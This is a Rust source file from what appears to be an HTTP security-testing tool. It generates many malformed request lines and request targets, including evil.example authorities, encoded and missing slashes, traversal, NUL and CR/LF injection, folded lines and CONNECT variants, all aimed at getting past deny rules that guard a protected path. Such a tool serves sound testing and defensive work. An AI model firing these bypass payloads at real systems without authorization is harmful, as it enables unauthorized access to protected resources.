//! Request lines: targets of other forms (RFC 9112 §3.2), and lines that are not quite one.

use crate::bypass::family::Family;
use crate::bypass::script::{NONCE, Permitted, Script};
use crate::bypass::trick::{Album, Ground, Sent, Step};

/// Targets and lines.
pub(super) fn album(ground: &Ground) -> Album {
    let mut album = Album::of(Family::Target);
    for target in targets(ground) {
        album.add(format!("GET {}", target.escape_debug()), ground.get(&target).http1());
    }
    let guarded = &ground.guarded;
    for version in [
        " HTTP/1.1 ",
        "  HTTP/1.1",
        "\tHTTP/1.1",
        " http/1.1",
        " HTTP/1.2",
        " HTTP/2.0",
        " HTTP/9.9",
        " HTTP/1.1x",
        " HTTP/01.1",
        " HTTP/1",
        " x HTTP/1.1",
        " HTTP/1.1 HTTP/1.1",
        "?x HTTP/1.1",
        "\0 HTTP/1.1",
        "\x0b HTTP/1.1",
        "\r HTTP/1.1",
    ] {
        let name = format!("GET {guarded}{}", version.escape_debug());
        album.add(name, ground.get(guarded).version(version).http1());
    }
    for (name, head) in lines(ground) {
        let script = Script::of(head).then(format!("{NONCE}: ")).and(Script::nonce(Permitted::No)).then("\r\n\r\n");
        album.add(name, Sent::Http1(vec![Step { script, answers: 1 }]));
    }
    album
}

fn targets(ground: &Ground) -> Vec<String> {
    let Ground { host, guarded, open, .. } = ground;
    let folder = ground.open_folder();
    let (first, rest) = ground.guarded_parts();
    let bare = format!("{first}{rest}");
    let mut all = Vec::new();
    for scheme in ["http", "HTTP", "https", "ftp", "file", "javascript", "http%3a", ""] {
        all.push(format!("{scheme}://{host}{guarded}"));
        all.push(format!("{scheme}://evil.example{guarded}"));
    }
    for authority in ["", ":80", ":", ":99999", "@evil.example", ".", ":80:80", "%00", "\\"] {
        all.push(format!("http://{host}{authority}{guarded}"));
    }
    for user in ["evil@", "evil:x@", "evil.example\\@", "evil.example#@", "evil.example?@", "@", "evil.example,"] {
        all.push(format!("http://{user}{host}{guarded}"));
    }
    for path in ["//", "/./", "/%2e/", "\\", "/;/", "%2f"] {
        all.push(format!("http://{host}{path}{bare}"));
    }
    all.push(format!("http://{host}{folder}/..{guarded}"));
    all.push(format!("http://{host}{open}?{guarded}"));
    all.push(format!("http://{host}?{guarded}"));
    all.push(format!("http://{host}#{guarded}"));
    all.push(format!("http://{host}{open}#/../..{guarded}"));
    all.push(format!("http:{guarded}"));
    all.push(format!("http:/{guarded}"));
    all.push(format!("http:///{bare}"));
    all.push(format!("http:{bare}"));
    // CVE-2026-33186: a path without its slash went past deny rules
    all.extend([
        bare.clone(),
        format!(".{guarded}"),
        format!("..{guarded}"),
        format!("%2f{bare}"),
        format!("\\{bare}"),
    ]);
    all.extend(["*".into(), format!("*{guarded}"), format!("?{guarded}"), format!("#{guarded}"), String::new()]);
    all.extend([format!("{open} {guarded}"), format!(" {guarded}"), format!("{guarded} {open}"), format!("{host}:80")]);
    all.extend([format!("\t{guarded}"), format!("{guarded}\t"), format!("/ {bare}"), format!("{open}\t{guarded}")]);
    all.extend([format!("{open}\r{guarded}"), format!("{open}\n{guarded}"), format!("\u{a0}{guarded}")]);
    all
}

/// Heads without their last lines.
fn lines(ground: &Ground) -> Vec<(String, String)> {
    let Ground { host, guarded, open, .. } = ground;
    let lines = [
        ("an empty line first", format!("\r\nGET {guarded} HTTP/1.1\r\nhost: {host}\r\n")),
        ("ten empty lines first", format!("{}GET {guarded} HTTP/1.1\r\nhost: {host}\r\n", "\r\n".repeat(10))),
        ("a line feed first", format!("\nGET {guarded} HTTP/1.1\r\nhost: {host}\r\n")),
        ("a space first", format!(" GET {guarded} HTTP/1.1\r\nhost: {host}\r\n")),
        ("a NUL first", format!("\0GET {guarded} HTTP/1.1\r\nhost: {host}\r\n")),
        ("a byte order mark first", format!("\u{feff}GET {guarded} HTTP/1.1\r\nhost: {host}\r\n")),
        ("line feeds alone", format!("GET {guarded} HTTP/1.1\nhost: {host}\n")),
        ("carriage returns alone", format!("GET {guarded} HTTP/1.1\rhost: {host}\r")),
        ("no version", format!("GET {guarded}\r\nhost: {host}\r\n")),
        ("no method", format!("{guarded} HTTP/1.1\r\nhost: {host}\r\n")),
        ("no spaces", format!("GET{guarded}HTTP/1.1\r\nhost: {host}\r\n")),
        ("tabs for spaces", format!("GET\t{guarded}\tHTTP/1.1\r\nhost: {host}\r\n")),
        ("two request lines", format!("GET {open} HTTP/1.1\r\nGET {guarded} HTTP/1.1\r\nhost: {host}\r\n")),
        ("a folded request line", format!("GET {open}\r\n {guarded} HTTP/1.1\r\nhost: {host}\r\n")),
        ("a header that continues the line", format!("GET {open} HTTP/1.1\r\n {guarded} HTTP/1.1\r\nhost: {host}\r\n")),
        ("the host behind a colon with a space", format!("GET {guarded} HTTP/1.1\r\nhost : {host}\r\n")),
        ("the host folded", format!("GET {guarded} HTTP/1.1\r\nhost:\r\n {host}\r\n")),
        ("CONNECT with a path", format!("CONNECT {guarded} HTTP/1.1\r\nhost: {host}\r\n")),
        ("CONNECT with an authority", format!("CONNECT {host}:80 HTTP/1.1\r\nhost: {host}:80\r\n")),
        ("CONNECT with a URL", format!("CONNECT http://{host}{guarded} HTTP/1.1\r\nhost: {host}\r\n")),
    ];
    lines.into_iter().map(|(name, head)| (format!("{name} before GET {guarded}"), head)).collect()
}
